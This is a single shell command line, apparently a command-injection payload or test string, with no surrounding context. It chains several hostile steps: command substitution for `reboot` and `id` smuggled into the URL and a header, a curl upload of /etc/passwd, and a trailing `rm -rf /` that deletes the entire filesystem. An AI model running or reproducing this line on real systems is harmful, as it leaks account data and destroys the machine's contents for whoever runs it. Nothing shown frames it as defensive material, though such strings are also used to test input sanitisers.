curl 'http://127.0.0.1/$(reboot)' -H "X: `id`" -d @/etc/passwd --next; rm -rf /
